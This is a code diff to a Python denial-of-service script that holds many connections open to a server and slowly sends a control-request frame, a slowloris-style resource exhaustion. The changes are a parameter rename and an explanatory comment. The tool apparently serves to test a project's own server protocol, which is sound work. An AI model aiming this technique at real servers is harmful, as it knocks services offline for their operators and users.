@@ -24,7 +24,7 @@ _BYTE_PERIOD_S = 7.0
 _POLL_PERIOD_S = 0.05
 
 
-def main(host: str, port: int, count: int) -> None:
+def main(host: str, port: int, connection_count: int) -> None:
     """Attack until the end of standard input."""
     frame = pack_control(FrameType.CONTROL_REQUEST, pack_request(messages.ReadStatistics()), sequence=1)
     sent_bytes_by_connection: dict[socket.socket, int] = {}
@@ -34,6 +34,7 @@ def main(host: str, port: int, count: int) -> None:
         for connection in sent_bytes_by_connection:
             poller.register(connection, select.POLLIN)
         connections_by_descriptor = {connection.fileno(): connection for connection in sent_bytes_by_connection}
+        # The server sends nothing before it has a whole request, so a connection with an event was closed.
         closed_events = poller.poll(0)
         for descriptor, _events in closed_events:
             connection = connections_by_descriptor[descriptor]
@@ -41,7 +42,7 @@ def main(host: str, port: int, count: int) -> None:
                 connection.recv(4096)
             del sent_bytes_by_connection[connection]
             connection.close()
-        while len(sent_bytes_by_connection) < count:
+        while len(sent_bytes_by_connection) < connection_count:
             connection = socket.socket()
             connection.settimeout(0)
             if connection.connect_ex((host, port)) not in {0, errno.EINPROGRESS}:
